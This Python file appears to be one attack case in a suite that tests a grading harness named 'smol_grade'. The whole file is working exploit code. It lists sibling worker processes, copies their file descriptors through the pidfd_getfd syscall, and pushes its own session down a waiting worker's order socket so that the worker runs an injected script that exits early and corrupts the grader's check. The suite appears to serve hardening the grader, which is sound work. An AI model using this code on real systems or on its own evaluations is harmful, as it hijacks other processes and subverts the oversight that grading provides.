# attack: takes over the worker that waits for the next check: steals its order socket and has it run a file of ours
# group: c
# targets: text tensor trainer
# ends: wrong error crashed
# control: none: a grader of one process has no worker in waiting

import contextlib
import ctypes
import json
import os
import socket
import struct

import msgpack

PIDFD_GETFD = 438
BOUNDS = {"memory_mb": 65_536, "file_mb": 65_536, "cpu_s": 3600}
SOURCE = "import os\nos._exit(0)\n"


def _starts_workers(pid):
    """Return whether a process is what this attack is meant for: nobody else's sockets get odd bytes."""
    with open(f"/proc/{pid}/cmdline", "rb") as file:
        return b"smol_grade" in file.read()


def _siblings():
    """Return the processes that have our parent."""
    found = []
    for name in os.listdir("/proc"):
        with contextlib.suppress(OSError, ValueError):
            with open(f"/proc/{int(name)}/stat") as file:
                parent = int(file.read().rpartition(")")[2].split()[1])
            if parent == os.getppid() and int(name) != os.getpid():
                found.append(int(name))
    return found


def _steal_descriptors(pid):
    """Return copies of another process's open descriptors, as a debugger may have them."""
    process = os.pidfd_open(pid)
    copies = [ctypes.CDLL(None).syscall(PIDFD_GETFD, process, number, 0) for number in range(3, 64)]
    return [copy for copy in copies if copy >= 0]


def _order(descriptor):
    """Begin a session of our own over what may be the spare's order socket, and load a file in it."""
    ours, theirs = socket.socketpair()
    reading, writing = os.pipe()
    with socket.socket(fileno=descriptor) as orders:
        socket.send_fds(orders, [json.dumps(BOUNDS).encode()], [theirs.fileno(), writing])
    request = {"id": 1, "op": "load", "source": SOURCE, "filename": "a.py", "function": "f", "arity": 0, "keywords": []}
    body = msgpack.packb(request)
    ours.send(struct.pack(">I", len(body)) + body)
    os.close(reading)


def _take_over(pid):
    for descriptor in _steal_descriptors(pid):
        with contextlib.suppress(OSError):
            _order(descriptor)


def attack(*args, **kwargs):
    with contextlib.suppress(OSError):
        for pid in _siblings() if _starts_workers(os.getppid()) else ():
            with contextlib.suppress(OSError):
                _take_over(pid)
    return {"messages": [], "text": ""}
